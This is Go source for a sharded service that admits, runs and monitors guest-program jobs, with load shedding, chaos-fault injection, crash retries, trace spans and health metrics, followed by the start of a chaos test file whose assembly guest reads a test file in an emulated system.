	Summary        uint64 `json:"summary"`
	Trace          uint64 `json:"trace"`
	Clean          uint64 `json:"clean"`
	Reinstrumented uint64 `json:"reinstrumented,omitempty"`
}

// tierMixOf derives the mix from a run's monitor statistics.
func tierMixOf(st harrier.Stats) TierMix {
	return TierMix{
		Blocks:         st.Blocks,
		Interp:         st.Blocks - st.TierHits - st.TraceHits - st.CleanHits,
		Summary:        st.TierHits,
		Trace:          st.TraceHits,
		Clean:          st.CleanHits,
		Reinstrumented: st.Reinstrumented,
	}
}

// add accumulates another run's mix (fleet aggregation).
func (m *TierMix) add(o TierMix) {
	m.Blocks += o.Blocks
	m.Interp += o.Interp
	m.Summary += o.Summary
	m.Trace += o.Trace
	m.Clean += o.Clean
	m.Reinstrumented += o.Reinstrumented
}

// JobUpdate is one live stream record for a job submitted with
// Stream: today, a warning as it fires.
type JobUpdate struct {
	Event    string `json:"event"` // "warning"
	Severity string `json:"severity,omitempty"`
	Rule     string `json:"rule,omitempty"`
	Message  string `json:"message,omitempty"`
}

// JobHandle tracks one admitted job to its terminal state.
type JobHandle struct {
	id     string
	tenant string
	shard  int

	done    chan struct{}
	updates chan JobUpdate // nil unless streaming
	dropped atomic.Uint64
	spans   *obs.SpanRecorder

	mu    sync.Mutex
	state string // "queued" → "running" → terminal Status
	res   *JobResult
}

func newHandle(id, tenant string, shard int, stream bool) *JobHandle {
	h := &JobHandle{
		id: id, tenant: tenant, shard: shard,
		done:  make(chan struct{}),
		state: "queued",
	}
	if stream {
		h.updates = make(chan JobUpdate, 64)
	}
	return h
}

// ID returns the service-assigned job id.
func (h *JobHandle) ID() string { return h.id }

// Tenant returns the submitting tenant label.
func (h *JobHandle) Tenant() string { return h.tenant }

// Shard returns the shard the job was admitted to.
func (h *JobHandle) Shard() int { return h.shard }

// Done is closed when the job reaches a terminal state.
func (h *JobHandle) Done() <-chan struct{} { return h.done }

// Spans returns the job's lifecycle trace recorder: the
// submit→queue→exec→verdict span tree, with runCore's phase and
// per-tier children grafted under each exec span. Every span is
// closed by the time Done() fires. Export with
// Spans().WriteChromeTrace (GET /jobs/{id}/trace over HTTP).
func (h *JobHandle) Spans() *obs.SpanRecorder { return h.spans }

// Updates returns the live stream channel (nil unless the spec asked
// for streaming and the admission tier allowed it). The channel is
// closed at job termination; a slow reader loses intermediate updates
// (counted in JobResult.DroppedUpdates) but never the final result.
func (h *JobHandle) Updates() <-chan JobUpdate { return h.updates }

// Status reports "queued", "running", or the terminal
// JobResult.Status.
func (h *JobHandle) Status() string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.state
}

// Result returns the terminal result, nil while the job is still
// queued or running.
func (h *JobHandle) Result() *JobResult {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.res
}

// Wait blocks until the job terminates or the context is cancelled.
func (h *JobHandle) Wait(ctx context.Context) (*JobResult, error) {
	select {
	case <-h.done:
		return h.Result(), nil
	case <-ctx.Done():
		return nil, ctx.Err()
	}
}

// push delivers a stream update without ever blocking the worker: a
// full buffer (slow tenant) drops the update and counts it.
func (h *JobHandle) push(u JobUpdate) {
	if h.updates == nil {
		return
	}
	select {
	case h.updates <- u:
	default:
		h.dropped.Add(1)
	}
}

// settle installs the terminal result exactly once, reporting whether
// this call won (drain/retry races may offer two endings; the first
// sticks).
func (h *JobHandle) settle(r *JobResult) bool {
	h.mu.Lock()
	if h.res != nil {
		h.mu.Unlock()
		return false
	}
	r.DroppedUpdates = h.dropped.Load()
	h.res = r
	h.state = r.Status
	h.mu.Unlock()
	if h.updates != nil {
		close(h.updates)
	}
	close(h.done)
	return true
}

// job is the internal unit of work: the spec, the handle, the derived
// chaos injector, and the retry state.
type job struct {
	h       *JobHandle
	spec    JobSpec
	decoded map[string]*image.Image // binary payloads decoded at submit, reused per attempt
	inj     *chaos.Injector         // nil without a service chaos plan
	shed    int
	attempt int // 0-based execution attempt

	// Lifecycle trace state: the recorder (shared with the handle),
	// the root "job" span, the open queue/exec spans of the current
	// attempt, and the effective deadline for the deadline-burn gauge.
	// qspan/espan are written by whichever goroutine owns the job at
	// that moment (submitter, worker, retry timer) and EndSpan is
	// idempotent, so racing terminators close them safely.
	rec        *obs.SpanRecorder
	root       uint64
	qspan      uint64
	espan      uint64
	deadlineNS int64
}

// NewService builds and starts a service (its workers idle until jobs
// arrive).
func NewService(cfg ServiceConfig) *Service {
	cfg.normalize()
	s := &Service{
		cfg:     cfg,
		metrics: obs.NewMetrics(),
		jobs:    make(map[string]*JobHandle),
		retries: make(map[string]*retryEntry),
	}
	sinks := append(append([]Observer(nil), cfg.Observers...), s.metrics)
	s.bus = obs.NewBus(sinks...)
	s.shards = make([]*shard, cfg.Shards)
	for i := range s.shards {
		s.shards[i] = &shard{
			id:   i,
			pool: pool.New(pool.Options{Workers: cfg.WorkersPerShard, Depth: cfg.QueueDepth}),
		}
	}
	return s
}

// Metrics returns the service's registry: per-tenant job counters,
// shard health gauges, worker recycles — the /metrics source and the
// input to admission control.
func (s *Service) Metrics() *obs.Metrics { return s.metrics }

// publish delivers one event to the service bus under the publish
// lock (the bus itself is single-threaded by design).
func (s *Service) publish(e Event) {
	s.busMu.Lock()
	s.bus.Publish(e)
	s.busMu.Unlock()
}

// shardFor maps a tenant to its home shard.
func (s *Service) shardFor(tenant string) *shard {
	h := fnv.New32a()
	io.WriteString(h, tenant)
	return s.shards[int(h.Sum32())%len(s.shards)]
}

// gauge names for one shard's health, as read back by admission
// control.
func shardGaugeFill(id int) string { return fmt.Sprintf("service.shard.%d.fill", id) }
func shardGaugeStreak(id int) string {
	return fmt.Sprintf("service.shard.%d.recycle_streak", id)
}
func shardGaugeQueueWait(id int) string {
	return fmt.Sprintf("service.shard.%d.queue_wait_avg_ns", id)
}

// publishShardGauges folds the shard's live occupancy and worker
// health into the registry. Fill is percent of total capacity
// (queue depth + workers), so 100 means saturated.
func (s *Service) publishShardGauges(sh *shard) {
	capacity := s.cfg.QueueDepth + s.cfg.WorkersPerShard
	load := sh.pool.Queued() + sh.pool.InFlight()
	fill := uint64(load * 100 / capacity)
	sh.mu.Lock()
	streak := uint64(sh.streak)
	sh.mu.Unlock()
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindMetric,
		Str: shardGaugeFill(sh.id), Num: fill})
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindMetric,
		Str: shardGaugeStreak(sh.id), Num: streak})
	if n, total := sh.pool.QueueWait(); n > 0 {
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindMetric,
			Str: shardGaugeQueueWait(sh.id), Num: uint64(total.Nanoseconds()) / n})
	}
}

// shedLevel is the admission decision: it reads the target shard's
// health gauges back out of the metrics registry and picks the
// degradation tier for a new job. Queue pressure sheds observability
// features progressively; a shard whose workers keep crashing jumps
// straight to the cheapest tier.
func (s *Service) shedLevel(sh *shard) int {
	fill := s.metrics.Gauge(shardGaugeFill(sh.id))
	streak := s.metrics.Gauge(shardGaugeStreak(sh.id))
	switch {
	case streak >= 2 || fill >= 90:
		return ShedTrace
	case fill >= 75:
		return ShedFlight
	case fill >= 50:
		return ShedProvenance
	}
	return ShedNone
}

// validateSpec rejects malformed specifications with the typed
// bad-spec error before any resources are committed. It is cheap —
// structural field checks only; payload decoding is decodeBinaries,
// run separately so it can sit behind the backpressure gate.
func validateSpec(spec *JobSpec) *JobError {
	if spec.Path == "" {
		return &JobError{Code: JobBadSpec, Msg: "missing path"}
	}
	if len(spec.Programs) == 0 && len(spec.Binaries) == 0 && spec.Setup == nil {
		return &JobError{Code: JobBadSpec, Msg: "no program source (programs and binaries empty and no setup hook)"}
	}
	if spec.DeadlineMS < 0 {
		return &JobError{Code: JobBadSpec, Msg: "negative deadline"}
	}
	return nil
}

// decodeBinaries decodes every binary payload up front so a malformed
// container is a synchronous typed rejection (HTTP 400) rather than a
// terminal job failure discovered on a worker. Only structural
// failures (ErrBadImage) reject; a payload that sniffs as source but
// fails to compile stays a bad *program*, reported at execute time
// exactly like a Programs entry. Successful decodes are returned so
// execute reuses them instead of repeating the parse+translate per
// attempt.
func decodeBinaries(spec *JobSpec) (map[string]*image.Image, *JobError) {
	if len(spec.Binaries) == 0 {
		return nil, nil
	}
	bins := make([]string, 0, len(spec.Binaries))
	for p := range spec.Binaries {
		bins = append(bins, p)
	}
	sort.Strings(bins)
	decoded := make(map[string]*image.Image, len(bins))
	for _, p := range bins {
		img, err := image.Decode(p, spec.Binaries[p])
		if err != nil {
			if errors.Is(err, image.ErrBadImage) {
				return nil, &JobError{Code: JobBadImage, Msg: err.Error()}
			}
			continue // compile diagnostics resurface at execute time
		}
		decoded[p] = img
	}
	return decoded, nil
}

// Submit admits a job. The error is a *JobError (malformed spec), an
// *OverloadError (shard queue full — backpressure; retry after the
// hint), or ErrDraining. An admitted job always terminates: watch the
// returned handle.
func (s *Service) Submit(spec JobSpec) (*JobHandle, error) {
	submitT := time.Now()
	s.mu.Lock()
	if s.draining {
		s.mu.Unlock()
		return nil, ErrDraining
	}
	s.seq++
	id := fmt.Sprintf("j%06d", s.seq)
	s.mu.Unlock()

	if spec.Tenant == "" {
		spec.Tenant = "anon"
	}
	var inj *chaos.Injector
	if s.cfg.Chaos != nil {
		derived := s.cfg.Chaos.Derive("job:" + id)
		inj = chaos.New(derived)
		if inj.JobSpecCorrupt(id) {
			// The malformed-spec fault: blank the program path so the
			// ordinary validation path produces the typed rejection.
			spec.Path = ""
		}
	}
	sh := s.shardFor(spec.Tenant)
	jerr := validateSpec(&spec)
	var decoded map[string]*image.Image
	var decodeT time.Time
	if jerr == nil {
		// Backpressure before decode work: a saturated shard rejects
		// here, before any payload parsing, so a flood of pathological
		// uploads cannot buy unbounded submit-path CPU. The check
		// mirrors pool.Submit's own queue-full condition; the admit
		// below remains authoritative if the race goes the other way.
		if sh.pool.Queued() >= s.cfg.QueueDepth {
			return nil, &OverloadError{Shard: sh.id, RetryAfter: s.cfg.RetryAfter}
		}
		decodeT = time.Now()
		decoded, jerr = decodeBinaries(&spec)
	}
	if jerr != nil {
		if inj != nil {
			s.collectFaults(inj)
		}
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobDone,
			Str: spec.Tenant, Str2: jerr.Code})
		return nil, jerr
	}

	// The job's lifecycle trace: rejected submissions above get no
	// trace (nothing was admitted); from here on every span mutation
	// mirrors onto the service bus. The root is back-stamped to the
	// moment Submit was entered so the admit span covers validation
	// and the backpressure gate too.
	rec := obs.NewSpanRecorder(id)
	rec.SetPublish(func(e Event) {
		e.Layer = obs.LayerService
		s.publish(e)
	})
	root := rec.StartSpanAt(0, "job", submitT.UnixNano(), 0)
	if len(spec.Binaries) > 0 {
		rec.AddSpan(root, "decode", decodeT.UnixNano(), rec.Now(), "ok")
	}
	rec.AddSpan(root, "admit", submitT.UnixNano(), rec.Now(), "ok")

	shed := s.shedLevel(sh)
	h := newHandle(id, spec.Tenant, sh.id, spec.Stream && shed < ShedTrace)
	h.spans = rec
	j := &job{h: h, spec: spec, decoded: decoded, inj: inj, shed: shed,
		rec: rec, root: root, deadlineNS: int64(s.jobDeadline(&spec))}
	j.qspan = rec.StartSpan(root, "queue", 0)

	ok := sh.pool.Submit(pool.Task{
		Run:     func() { s.runJob(j) },
		Abort:   func() { s.finishAborted(j) },
		OnPanic: func(v any) { s.jobPanicked(j, v) },
	})
	if !ok {
		rec.EndSpan(j.qspan, "overload")
		rec.EndSpan(root, "overload")
		s.mu.Lock()
		draining := s.draining
		s.mu.Unlock()
		if draining {
			return nil, ErrDraining
		}
		return nil, &OverloadError{Shard: sh.id, RetryAfter: s.cfg.RetryAfter}
	}

	s.mu.Lock()
	s.jobs[id] = h
	s.mu.Unlock()
	if shed > ShedNone {
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobShed,
			Str: spec.Tenant, Str2: id, Num: uint64(shed)})
	}
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobEnqueue,
		Str: spec.Tenant, Str2: id, Num: uint64(sh.id), Num2: uint64(shed)})
	s.publishShardGauges(sh)
	return h, nil
}

// Lookup resolves a job id to its handle (nil when unknown or
// evicted).
func (s *Service) Lookup(id string) *JobHandle {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.jobs[id]
}

// runJob executes one attempt on a worker goroutine. Chaos decision
// points (queue stall, worker crash pre/post) fire here, outside the
// run's own panic containment, so they exercise the pool's recycle
// path for real.
func (s *Service) runJob(j *job) {
	j.h.mu.Lock()
	j.h.state = "running"
	j.h.mu.Unlock()
	j.rec.EndSpan(j.qspan, "ok")
	j.espan = j.rec.StartSpan(j.root, "exec", uint64(j.attempt))
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobStart,
		Str: j.h.tenant, Str2: j.h.id, Num: uint64(j.h.shard), Num2: uint64(j.attempt)})
	if j.inj != nil {
		if ms, ok := j.inj.QueueStall(j.h.id); ok {
			time.Sleep(time.Duration(ms) * time.Millisecond)
		}
		if j.inj.WorkerCrash(j.h.id, "pre") {
			panic("chaos: worker crash (pre-run)")
		}
	}
	began := time.Now()
	res, err := s.execute(j)
	if j.inj != nil && j.inj.WorkerCrash(j.h.id, "post") {
		panic("chaos: worker crash (post-run)")
	}
	s.finish(j, res, err, time.Since(began))
}

// execute builds the job's private guest world and runs it under the
// monitor with the service's budget clamps and the admission tier's
// feature mask applied.
func (s *Service) execute(j *job) (*Result, error) {
	sys := NewSystem()
	if j.spec.Setup != nil {
		j.spec.Setup(sys)
	}
	paths := make([]string, 0, len(j.spec.Programs))
	for p := range j.spec.Programs {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	for _, p := range paths {
		if err := sys.InstallSource(p, j.spec.Programs[p]); err != nil {
			return nil, &JobError{Code: JobBadProgram, Msg: err.Error()}
		}
	}
	bins := make([]string, 0, len(j.spec.Binaries))
	for p := range j.spec.Binaries {
		bins = append(bins, p)
	}
	sort.Strings(bins)
	for _, p := range bins {
		if img := j.decoded[p]; img != nil {
			// Decoded once at submit; installing the cached image skips
			// repeating the parse+translate on every attempt.
			sys.InstallDecodedBinary(p, j.spec.Binaries[p], img)
			continue
		}
		if err := sys.InstallBinary(p, j.spec.Binaries[p]); err != nil {
			// Structural failures (malformed container) are bad-image;
			// a payload that decodes as source but fails to compile is a
			// bad program, same as a Programs entry.
			code := JobBadProgram
			if errors.Is(err, image.ErrBadImage) {
				code = JobBadImage
			}
			return nil, &JobError{Code: code, Msg: err.Error()}
		}
	}
	for p, data := range j.spec.Files {
		sys.CreateFile(p, data)
	}

	cfg := DefaultConfig()
	if j.spec.Tweak != nil {
		j.spec.Tweak(&cfg)
	}
	// Budgets: the spec may tighten within the service's clamps; the
	// service's defaults apply otherwise. An unexpired deadline is
	// guest-invisible, so these do not perturb verdicts.
	if j.spec.MaxSteps > 0 {
		cfg.MaxSteps = j.spec.MaxSteps
	}
	if s.cfg.MaxSteps > 0 && (cfg.MaxSteps == 0 || cfg.MaxSteps > s.cfg.MaxSteps) {
		cfg.MaxSteps = s.cfg.MaxSteps
	}
	deadline := s.jobDeadline(&j.spec)
	if cfg.Deadline == 0 || cfg.Deadline > deadline {
		cfg.Deadline = deadline
	}
	// Graft the run's phase spans (load/instrument/execute/report and
	// the per-tier execution children) under this attempt's exec span.
	cfg.Spans = true
	cfg.spanRec = j.rec
	cfg.spanParent = j.espan
	// Feature mask by admission tier: strictly observability — the
	// policy engine and monitor semantics are never degraded.
	cfg.Provenance = j.spec.Provenance && j.shed < ShedProvenance
	cfg.Symbolize = j.spec.Symbolize && cfg.Provenance
	if j.spec.FlightPath != "" && j.shed < ShedFlight {
		cfg.FlightPath = j.spec.FlightPath
		cfg.JobTag = j.h.id
	} else {
		cfg.FlightPath = ""
		cfg.FlightSize = 0
	}
	if j.shed >= ShedTrace {
		cfg.Monitor.KeepEventLog = false
	}
	if j.h.updates != nil {
		h := j.h
		cfg.Observers = append(append([]Observer(nil), cfg.Observers...),
			obs.SinkFunc(func(e Event) {
				if e.Kind == obs.KindWarning {
					h.push(JobUpdate{Event: "warning",
						Severity: severityName(int(e.Num)), Rule: e.Str, Message: e.Str2})
				}
			}))
	}
	return sys.Run(cfg, RunSpec{
		Path: j.spec.Path, Argv: j.spec.Argv, Env: j.spec.Env, Stdin: j.spec.Stdin,
	})
}

// jobDeadline resolves a spec's effective wall-clock budget under the
// service clamps: the spec may name one (clamped to MaxDeadline), the
// service default applies otherwise.
func (s *Service) jobDeadline(spec *JobSpec) time.Duration {
	d := s.cfg.DefaultDeadline
	if spec.DeadlineMS > 0 {
		d = time.Duration(spec.DeadlineMS) * time.Millisecond
	}
	if d > s.cfg.MaxDeadline {
		d = s.cfg.MaxDeadline
	}
	return d
}

// severityName renders a secpert severity ordinal as its wire name.
func severityName(n int) string {
	switch n {
	case int(Low):
		return Low.String()
	case int(Medium):
		return Medium.String()
	case int(High):
		return High.String()
	}
	return fmt.Sprintf("severity(%d)", n)
}

// finish classifies one completed attempt into the job's terminal
// result.
func (s *Service) finish(j *job, res *Result, err error, wall time.Duration) {
	finishT := j.rec.Now()
	r := &JobResult{
		ID: j.h.id, Tenant: j.h.tenant,
		Shed: j.shed, Attempts: j.attempt + 1, WallNS: wall.Nanoseconds(),
	}
	code := "done"
	if err != nil {
		r.Status = "failed"
		switch e := err.(type) {
		case *JobError:
			r.Error = e
		case *GuestFault:
			r.Error = &JobError{Code: JobGuestFault, Msg: e.Error()}
		case *RunError:
			r.Error = &JobError{Code: JobRunPanic, Msg: e.Error()}
		default:
			r.Error = &JobError{Code: JobRunPanic, Msg: e.Error()}
		}
		code = r.Error.Code
	} else {
		r.Status = "done"
		r.Raw = res
		r.Outcome = runOutcome(res.RunErr)
		r.TotalSteps = res.TotalSteps
		if res.Stats.Blocks > 0 {
			mix := tierMixOf(res.Stats)
			r.TierMix = &mix
		}
		r.Verdict = "clean"
		if sev, warned := res.MaxSeverity(); warned {
			r.Verdict = sev.String()
		}
		h := fnv.New64a()
		for _, w := range res.Warnings {
			io.WriteString(h, w.String())
			io.WriteString(h, "\x00")
		}
		r.WarnHash = fmt.Sprintf("%016x", h.Sum64())
		r.Warnings = make([]JobWarning, len(res.Warnings))
		for i, w := range res.Warnings {
			r.Warnings[i] = JobWarning{
				Severity: w.Severity.String(), Rule: w.Rule, Message: w.Message,
				Chain: append([]string(nil), w.Chain...),
			}
		}
	}
	// Close this attempt's exec span with the execution's own status
	// (the scheduler outcome for done runs — "deadline" when the
	// wall-clock budget expired — or the error code), then account the
	// verdict assembly that just happened. Crash paths already closed
	// espan in jobPanicked; EndSpan's idempotence makes this a no-op
	// there.
	execStatus := code
	if r.Status == "done" {
		execStatus = r.Outcome
	}
	j.rec.EndSpan(j.espan, execStatus)
	j.rec.AddSpan(j.root, "verdict", finishT, j.rec.Now(), "ok")
	s.complete(j, r, code)
}

// finishAborted completes a job that will never run (drained while
// queued or waiting on a crash-retry) as a structured abort.
func (s *Service) finishAborted(j *job) {
	r := &JobResult{
		ID: j.h.id, Tenant: j.h.tenant, Status: "aborted",
		Shed: j.shed, Attempts: j.attempt,
		Error: &JobError{Code: JobAborted, Msg: "service drained before the job ran"},
	}
	if s.complete(j, r, JobAborted) {
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobAbort,
			Str: j.h.tenant, Str2: j.h.id})
	}
}

// complete settles the handle (first terminal state wins), collects
// the job's injected faults, publishes the lifecycle event, and
// refreshes the shard's health gauges.
func (s *Service) complete(j *job, r *JobResult, code string) bool {
	if j.inj != nil {
		r.ServiceFaults = s.collectFaults(j.inj)
	}
	// Close the trace before settling so a waiter released by Done()
	// always observes a fully closed span tree. Queue/exec are
	// defensive closes for paths that never ran them (aborts, crash
	// terminations); the racing loser's statuses never land because
	// EndSpan keeps the first close.
	j.rec.EndSpan(j.qspan, code)
	j.rec.EndSpan(j.espan, code)
	j.rec.EndSpan(j.root, code)
	if !j.h.settle(r) {
		return false
	}
	s.publishJobLatency(j, r)
	sh := s.shards[j.h.shard]
	if r.Status == "done" || (r.Error != nil && r.Error.Code != JobWorkerCrash) {
		// A job that made it through a worker — a verdict, or a typed
		// failure other than the crash path itself — proves the
		// shard's workers are alive again.
		sh.mu.Lock()
		sh.streak = 0
		if r.TierMix != nil {
			sh.mix.add(*r.TierMix)
		}
		sh.mu.Unlock()
	}
	s.mu.Lock()
	s.doneOrder = append(s.doneOrder, j.h.id)
	for len(s.doneOrder) > s.cfg.KeepResults {
		evict := s.doneOrder[0]
		s.doneOrder = s.doneOrder[1:]
		delete(s.jobs, evict)
	}
	s.mu.Unlock()
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobDone,
		Str: j.h.tenant, Str2: code, Num: uint64(j.h.shard), Num2: uint64(j.shed)})
	s.publishShardGauges(sh)
	return true
}

// publishJobLatency emits the settled job's latency observations —
// queue wait, execution time (summed across crash retries), and
// end-to-end submit→verdict — plus, for completed runs, the fraction
// of the wall-clock deadline the final attempt consumed (ratio ×1e6,
// the deadline-burn gauge's raw unit). The registry folds these into
// its per-tenant fixed-bucket histograms.
func (s *Service) publishJobLatency(j *job, r *JobResult) {
	qns, _ := j.rec.NamedDuration("queue")
	ens, _ := j.rec.NamedDuration("exec")
	var e2e int64
	if root := j.rec.Root(); root != nil && root.End != 0 {
		e2e = root.End - root.Start
	}
	for _, o := range [...]struct {
		stage string
		v     int64
	}{{"queue", qns}, {"exec", ens}, {"e2e", e2e}} {
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobLatency,
			Str: j.h.tenant, Str2: o.stage, Num: uint64(max64(o.v, 0))})
	}
	if r.Status == "done" && j.deadlineNS > 0 && r.WallNS > 0 {
		burn := uint64(r.WallNS) * 1_000_000 / uint64(j.deadlineNS)
		s.publish(Event{Layer: obs.LayerService, Kind: obs.KindJobLatency,
			Str: j.h.tenant, Str2: "deadline_burn", Num: burn})
	}
}

func max64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}

// collectFaults appends an injector's recorded faults to the service
// log (publishing each on the bus) and returns their rendered forms.
func (s *Service) collectFaults(inj *chaos.Injector) []string {
	fs := inj.Faults()
	if len(fs) == 0 {
		return nil
	}
	out := make([]string, len(fs))
	s.mu.Lock()
	s.faults = append(s.faults, fs...)
	s.mu.Unlock()
	for i, f := range fs {
		out[i] = f.String()
		s.publish(Event{Layer: obs.LayerChaos, Kind: obs.KindChaosFault,
			Num: uint64(f.Errno), Num2: f.Info, Str: f.Kind.String(), Str2: f.Path})
	}
	return out
}

// Faults returns every service-level chaos fault injected so far.
func (s *Service) Faults() []chaos.Fault {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]chaos.Fault(nil), s.faults...)
}

// jobPanicked handles a worker crash: the pool has already recycled
// the goroutine; here the shard's health gauges take the hit and the
// job retries with exponential backoff until MaxRetries, then
// terminates in the typed worker-crash error.
func (s *Service) jobPanicked(j *job, v any) {
	j.rec.EndSpan(j.espan, "crash")
	sh := s.shards[j.h.shard]
	sh.mu.Lock()
	sh.streak++
	sh.mu.Unlock()
	s.publish(Event{Layer: obs.LayerService, Kind: obs.KindWorkerRecycle,
		Num: uint64(sh.id), Str: j.h.tenant, Str2: j.h.id})
	s.publishShardGauges(sh)

	s.mu.Lock()
	draining := s.draining
	s.mu.Unlock()
	if draining || j.attempt >= s.cfg.MaxRetries {
		s.finish(j, nil, &JobError{
			Code: JobWorkerCrash,
			Msg:  fmt.Sprintf("worker panicked (%v) after %d attempt(s)", v, j.attempt+1),
		}, 0)
		return
	}
	j.attempt++
	backoff := s.cfg.RetryBackoff << (j.attempt - 1)
	// The retry's queue span opens here so it covers the backoff wait
	// as well as the requeue; runJob closes it when a worker picks the
	// attempt up. Written before the retry entry is registered under
	// s.mu, so Drain's abort path reads it safely.
	j.qspan = j.rec.StartSpan(j.root, "queue", uint64(j.attempt))
	s.mu.Lock()
	if s.draining {
		s.mu.Unlock()
		s.finishAborted(j)
		return
	}
	entry := &retryEntry{job: j}
	entry.timer = time.AfterFunc(backoff, func() { s.resubmit(j) })
	s.retries[j.h.id] = entry
	s.mu.Unlock()
}

// resubmit re-enqueues a crash-retried job on its home shard.
func (s *Service) resubmit(j *job) {
	s.mu.Lock()
	delete(s.retries, j.h.id)
	draining := s.draining
	s.mu.Unlock()
	if draining {
		s.finishAborted(j)
		return
	}
	sh := s.shards[j.h.shard]
	ok := sh.pool.Submit(pool.Task{
		Run:     func() { s.runJob(j) },
		Abort:   func() { s.finishAborted(j) },
		OnPanic: func(v any) { s.jobPanicked(j, v) },
	})
	if !ok {
		s.finish(j, nil, &JobError{
			Code: JobWorkerCrash,
			Msg:  fmt.Sprintf("shard %d queue full on crash retry %d", sh.id, j.attempt),
		}, 0)
	}
}

// ShardHealth is one shard's live state in a health snapshot.
type ShardHealth struct {
	Shard    int     `json:"shard"`
	Queued   int     `json:"queued"`
	InFlight int     `json:"in_flight"`
	Recycled uint64  `json:"recycled"`
	Streak   int     `json:"recycle_streak"`
	Fill     float64 `json:"fill_percent"`
	// TierMix aggregates the execution-tier mix over this shard's
	// completed jobs since the service started.
	TierMix TierMix `json:"tier_mix"`
}

// ServiceHealth is the /healthz snapshot.
type ServiceHealth struct {
	Draining bool          `json:"draining"`
	Shards   []ShardHealth `json:"shards"`
	// TierMix is the fleet-wide aggregate of the per-shard mixes: what
	// fraction of all block entries the fleet served per tier.
	TierMix TierMix `json:"tier_mix"`
	// Latency holds the fleet-wide p50/p95/p99 rollups (milliseconds)
	// per latency stage — "queue", "exec", "e2e" — aggregated across
	// tenants from the registry's fixed-bucket histograms. Stages with
	// no completed jobs are absent.
	Latency map[string]obs.LatencyRollup `json:"latency_ms,omitempty"`
	// DeadlineBurnP95 is the 95th-percentile fraction of the per-job
	// wall-clock deadline consumed by execution (1.0 = the whole
	// budget). The fleet SLO canary: a value creeping toward 1 means
	// jobs are about to start dying of deadline.
	DeadlineBurnP95 float64 `json:"deadline_burn_p95,omitempty"`
}

// Health snapshots the service's live state.
func (s *Service) Health() ServiceHealth {
	s.mu.Lock()
	hs := ServiceHealth{Draining: s.draining}
	s.mu.Unlock()
	capacity := s.cfg.QueueDepth + s.cfg.WorkersPerShard
	for _, sh := range s.shards {
		sh.mu.Lock()
		streak, mix := sh.streak, sh.mix
		sh.mu.Unlock()
		q, inf := sh.pool.Queued(), sh.pool.InFlight()
		hs.Shards = append(hs.Shards, ShardHealth{
			Shard: sh.id, Queued: q, InFlight: inf,
			Recycled: sh.pool.Recycled(), Streak: streak,
			Fill:    float64((q+inf)*100) / float64(capacity),
			TierMix: mix,
		})
		hs.TierMix.add(mix)
	}
	for _, stage := range [...]string{"queue", "exec", "e2e"} {
		if r, ok := s.metrics.LatencyRollup(stage); ok {
			if hs.Latency == nil {
				hs.Latency = make(map[string]obs.LatencyRollup, 3)
			}
			hs.Latency[stage] = r
		}
	}
	if v, ok := s.metrics.LatencyQuantile("deadline_burn", 0.95); ok {
		hs.DeadlineBurnP95 = float64(v) / 1e6
	}
	return hs
}

// Drain shuts the service down without losing a job: no new
// submissions (ErrDraining), in-flight jobs run to completion, queued
// jobs — including those parked on crash-retry backoff — terminate as
// structured aborts. Returns ctx.Err() if the context expires first
// (workers keep finishing in the background; Drain is not resumable).
func (s *Service) Drain(ctx context.Context) error {
	s.mu.Lock()
	if s.draining {
		s.mu.Unlock()
		return errors.New("hth: service already draining")
	}
	s.draining = true
	pending := s.retries
	s.retries = make(map[string]*retryEntry)
	s.mu.Unlock()

	// Jobs parked on a crash-retry timer: stop the timer and abort. A
	// timer that already fired is racing resubmit, which observes
	// draining and aborts itself — settle() makes the outcome
	// single-winner either way.
	for _, e := range pending {
		e.timer.Stop()
		s.finishAborted(e.job)
	}

	done := make(chan struct{})
	go func() {
		for _, sh := range s.shards {
			sh.pool.Drain()
		}
		s.busMu.Lock()
		s.bus.Close()
		s.busMu.Unlock()
		close(done)
	}()
	select {
	case <-done:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}
