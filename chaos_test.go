package hth_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	hth "repro"
	"repro/internal/chaos"
	"repro/internal/secpert"
	"repro/internal/vos"
)

// readerSrc opens and reads a file, exiting with the byte count (or
// 77 when a syscall failed) — enough surface for the injector to hit.
const readerSrc = `
.text
_start:
    mov ebx, path
    mov ecx, 0
    mov eax, 5          ; open
    int 0x80
    cmp eax, 0
    jl fail
    mov ebx, eax
    mov ecx, buf
    mov edx, 16
    mov eax, 3          ; read
    int 0x80
    cmp eax, 0
    jl fail
    mov ebx, eax
    mov eax, 1
    int 0x80
fail:
    mov ebx, 77
    mov eax, 1
    int 0x80
.data
path: .asciz "/etc/data"
buf:  .space 16
`

func readerSystem() *hth.System {
	sys := hth.NewSystem()
	sys.MustInstallSource("/bin/reader", readerSrc)
	sys.CreateFile("/etc/data", []byte("abcdefgh"))
	return sys
}

// TestChaosFaultsReported runs a guest under a rate-1 read-fault plan
// and checks that every injected fault surfaces as a structured entry
// in Result.Chaos while the run itself stays a normal outcome.
func TestChaosFaultsReported(t *testing.T) {
	sys := readerSystem()
	cfg := hth.DefaultConfig()
	cfg.Chaos = &chaos.Plan{Seed: 7, Rate: 1, Only: []chaos.Kind{chaos.ReadErr}}
	res, err := sys.Run(cfg, hth.RunSpec{Path: "/bin/reader"})
	if err != nil {
		t.Fatal(err)
	}
	if res.Process.ExitCode != 77 {
		t.Errorf("exit = %d, want 77 (read faulted)", res.Process.ExitCode)
	}
	if len(res.Chaos) == 0 {
		t.Fatal("no faults recorded in Result.Chaos")
	}
	f := res.Chaos[0]
	if f.Kind != chaos.ReadErr || f.Errno == 0 || !strings.Contains(f.String(), "read") {
		t.Errorf("fault = %+v (%s)", f, f)
	}
}

// TestChaosZeroRateInvisible checks the guest-invisibility guarantee
